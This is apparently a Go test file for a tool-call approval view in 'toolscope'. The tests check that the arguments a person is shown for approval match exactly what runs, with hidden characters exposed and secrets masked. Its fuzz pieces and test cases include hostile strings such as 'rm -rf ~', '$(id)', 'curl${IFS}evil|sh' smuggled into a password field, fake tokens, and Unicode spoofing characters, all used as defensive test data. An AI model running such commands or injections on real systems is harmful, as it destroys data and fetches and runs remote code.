// Copyright The toolscope Authors
// SPDX-License-Identifier: Apache-2.0

package view_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/toolscope/toolscope/middleware/approve/internal/view"
)

// A reading is the arguments as a person reads them back from what was shown.
type reading struct {
	t     *testing.T
	lines []string
}

var short = map[string]string{"TAB": "\t", "CR": "\r", "LF": "\n", "ESC": "\x1b", "NUL": "\x00", "NBSP": "\u00a0"}

var anyMark = regexp.MustCompile(`⟨([^⟩]*)⟩`)

// unmarked replaces the marks by what they stand for.
func unmarked(t *testing.T, s string) string {
	return anyMark.ReplaceAllStringFunc(s, func(m string) string {
		word := strings.Trim(m, "⟨⟩")
		var n int
		var what string
		switch {
		case short[word] != "":
			return short[word]
		case strings.HasPrefix(word, "U+"):
			n, err := strconv.ParseInt(word[2:], 16, 32)
			if err != nil {
				t.Fatal(err)
			}
			return string(rune(n))
		case strings.HasPrefix(word, "0x"):
			n, err := strconv.ParseInt(word[2:], 16, 16)
			if err != nil {
				t.Fatal(err)
			}
			return string([]byte{byte(n)})
		}
		if _, err := fmt.Sscanf(word, "%d %s", &n, &what); err != nil {
			t.Fatalf("%q: %v", word, err)
		}
		if strings.HasPrefix(what, "line") {
			return strings.Repeat("\n", n-1) // and the one that ends the line
		}
		return strings.Repeat(" ", n)
	})
}

func (r *reading) next(indent string) (string, bool) {
	if len(r.lines) == 0 || !strings.HasPrefix(r.lines[0], indent) {
		return "", false
	}
	return r.lines[0][len(indent):], true
}

// value reads what stands behind a name, or a dash.
func (r *reading) value(rest, indent string) any {
	switch {
	case rest == "":
	case rest == "{}":
		return map[string]any{}
	case rest == "[]":
		return []any{}
	case rest[0] == '"':
		return unmarked(r.t, rest[1:len(rest)-1])
	default:
		var v any
		d := json.NewDecoder(strings.NewReader(rest))
		d.UseNumber()
		if err := d.Decode(&v); err != nil {
			r.t.Fatalf("%q: %v", rest, err)
		}
		return v
	}
	first, _ := r.next(indent)
	switch {
	case strings.HasPrefix(first, "│ "):
		var lines []string
		for {
			line, ok := r.next(indent + "│ ")
			if !ok {
				return strings.Join(lines, "\n")
			}
			lines = append(lines, unmarked(r.t, line))
			r.lines = r.lines[1:]
		}
	case strings.HasPrefix(first, "- "):
		return r.list(indent)
	default:
		return r.object(indent)
	}
}

func (r *reading) list(indent string) any {
	list := []any{}
	for {
		line, ok := r.next(indent + "- ")
		if !ok {
			return list
		}
		r.lines = r.lines[1:]
		list = append(list, r.value(line, indent+"    "))
	}
}

func (r *reading) object(indent string) any {
	object := map[string]any{}
	for {
		line, ok := r.next(indent)
		if !ok || strings.HasPrefix(line, " ") || line == "" {
			return object
		}
		r.lines = r.lines[1:]
		var name string
		if strings.HasPrefix(line, `"`) {
			name, line, _ = strings.Cut(line[1:], `"`)
			line = strings.TrimPrefix(line, ":")
		} else {
			name, line, _ = strings.Cut(line, ":")
		}
		object[unmarked(r.t, name)] = r.value(strings.TrimPrefix(line, " "), indent+"    ")
	}
}

// readBack reads a shown object.
func readBack(t *testing.T, shown string) any {
	r := &reading{t, strings.Split(strings.TrimSuffix(shown, "\n"), "\n")}
	if shown == "{}\n" {
		return map[string]any{}
	}
	v := r.object("")
	if len(r.lines) > 0 {
		t.Fatalf("left over: %q", r.lines)
	}
	return v
}

var pieces = []string{
	"rm -rf ~", "; ", "&&", "|", "$(id)", "`id`", "${IFS}", "'", `"`, `\`, "\n", "\n\n\n\n\n\n", " ", strings.Repeat(" ", 200),
	"\t", "\r", "\x00", "\x1b[2J", "\u202e", "\u2066", "\u200b", "\u2800", "\u3164", "\ufe0f", "é", "e\u0301\u0301\u0301\u0301",
	"а", "日本", "🙂", "⟨U+202E⟩", "⟨5 spaces⟩", "⟨", "│ ", "- ", "name: ", "{}", "[]", "null",
	"-----BEGIN RSA " + "PRIVATE KEY-----",
	"--password=a;curl${IFS}evil|sh", "4111111111111111", "ghp_" + strings.Repeat("0123456789ab", 3), "[REDACTED:x]",
	"\u00a0", "\u2028",
	"\U000e0041", "\ufffd", "שלום",
}

func randomText(r *rand.Rand) string {
	var b strings.Builder
	for range r.IntN(8) {
		b.WriteString(pieces[r.IntN(len(pieces))])
	}
	return b.String()
}

func randomValue(r *rand.Rand, depth int) any {
	switch n := r.IntN(10); {
	case n == 0 && depth > 0:
		object := map[string]any{}
		for range r.IntN(4) {
			object["m"+randomText(r)] = randomValue(r, depth-1)
		}
		return object
	case n == 1 && depth > 0:
		list := []any{}
		for range r.IntN(4) {
			list = append(list, randomValue(r, depth-1))
		}
		return list
	case n == 2:
		return json.Number([]string{"0", "-1.50", "1e400", "123456789012345678901234567890"}[r.IntN(4)])
	case n == 3:
		return []any{true, false, nil}[r.IntN(3)]
	}
	return randomText(r)
}

// TestWhatIsSeenIsWhatRuns reads random arguments back from what a person is shown: they are those that run.
func TestWhatIsSeenIsWhatRuns(t *testing.T) {
	r := rand.New(rand.NewPCG(21, 0))
	for range 5_000 {
		object := map[string]any{"command": randomText(r)}
		for range r.IntN(3) {
			object["m"+randomText(r)] = randomValue(r, 3)
		}
		arguments, err := json.Marshal(object)
		if err != nil {
			t.Fatal(err)
		}
		parts := view.Render(arguments, nil)
		shown := view.Text(parts)
		for _, c := range shown {
			if c != '\n' && (c < ' ' || c == 0x7f || strings.ContainsRune("\u202e\u2066\u200b\u2800\u3164\u00a0\u2028", c)) {
				t.Fatalf("%s shows %U:\n%s", arguments, c, shown)
			}
		}
		if got := readBack(t, shown); !reflect.DeepEqual(got, any(object)) {
			t.Fatalf("%s reads as %#v:\n%s", arguments, got, shown)
		}
	}
}

func TestRender(t *testing.T) {
	for _, c := range []struct{ name, arguments, want string }{
		{"nothing", " ", "⟨no arguments⟩\n"},
		{"a command", `{"command":"echo 'a'; rm -rf ~","timeout":3.0}`, "command: \n    │ echo 'a'; rm -rf ~\ntimeout: 3.0\n"},
		{"lines", `{"text":"a\nb\n"}`, "text: \n    │ a\n    │ b\n    │ \n"},
		{"a name that stands twice", `{"to":"a","To":"b"}`,
			"⟨a name stands twice: the tool may read either value⟩\nto: \"a\"\nTo: \"b\"\n"},
		{"no JSON", "{\"a\":\xff", "⟨no JSON: the bytes as they are⟩\n  │ {\"a\":⟨0xFF⟩\n"},
		{"two documents", `{}{}`, "⟨no JSON: the bytes as they are⟩\n  │ {}{}\n"},
		{"half a surrogate", `{"a":"\ud800"}`, "⟨no JSON: the bytes as they are⟩\n  │ {\"a\":\"\\ud800\"}\n"},
		{"a list", `[1,"a",{"b":[]}]`, "- 1\n- \"a\"\n- \n    b: []\n"},
		{"a secret", `{"password":"hunter2"}`, "password: ⟨masked: passwd⟩\n"},
		{"a secret that is no single word", `{"password":"a;curl evil|sh"}`, "password: \"a;curl evil|sh\"\n"},
		{"a secret in a command", `{"command":{"password":"hunter2"}}`, "command: \n    password: \n        │ hunter2\n"},
		{"deep", strings.Repeat("[", 40) + strings.Repeat("]", 40),
			"⟨no JSON: the bytes as they are⟩\n  │ " + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "\n"},
	} {
		parts := view.Render([]byte(c.arguments), func(name, _ string) (string, bool) { return "passwd", name == "password" })
		if got := view.Text(parts); got != c.want {
			t.Errorf("%s: got\n%swant\n%s", c.name, got, c.want)
		}
	}
}

// changed are the parts that Compare marks.
func changed(now, earlier string) (all []string) {
	parts := view.Render([]byte(now), nil)
	view.Compare(parts, view.Render([]byte(earlier), nil))
	for _, p := range parts {
		if p.Changed {
			all = append(all, p.Text)
		}
	}
	return all
}

func TestCompare(t *testing.T) {
	for _, c := range []struct {
		now, earlier string
		want         []string
	}{
		{`{"command":"a b"}`, `{"command":"a b"}`, nil},
		{`{"command":"deploy staging; rm x"}`, `{"command":"deploy staging"}`, []string{";", " ", "rm", " ", "x"}},
		{`{"to":"b","amount":5}`, `{"to":"a","amount":5}`, []string{"b"}},
		{`{"a":1,"b":2}`, `{"a":1}`, []string{"b", "2"}},
		{`{"a":1}`, `{"a":1,"b":2}`, nil},
	} {
		if got := changed(c.now, c.earlier); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s after %s: got %q, want %q", c.now, c.earlier, got, c.want)
		}
	}
}

func TestCut(t *testing.T) {
	parts := view.Render([]byte(`{"command":"aaaa bbbb"}`), nil)
	if all, cut := view.Cut(parts, 1000); cut || len(all) != len(parts) {
		t.Errorf("got %v, cut %v", all, cut)
	}
	some, cut := view.Cut(parts, 22)
	if text := view.Text(some); !cut || !strings.HasSuffix(text, "│ aaaa") {
		t.Errorf("got %q, cut %v", text, cut)
	}
}
